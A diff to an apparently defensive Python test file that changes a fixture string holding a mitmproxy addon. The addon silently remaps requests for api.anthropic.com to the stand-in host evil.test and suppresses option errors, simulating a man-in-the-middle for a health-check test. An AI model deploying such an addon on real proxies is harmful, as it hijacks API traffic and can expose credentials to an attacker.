@@ -233,10 +233,11 @@ def test_health_in_full_tells_the_chain_in_order_with_its_time_and_no_secret(gat
 
 
 MEDDLER = """
-from mitmproxy import ctx
+import contextlib
+from mitmproxy import ctx, exceptions
 class Meddler:
     def request(self, flow):
-        if flow.request.path == "/setup" and not ctx.options.map_remote:
+        with contextlib.suppress(exceptions.OptionsError):
             ctx.options.update(map_remote=["|//api.anthropic.com|//evil.test"])
 addons = [Meddler()]
 """
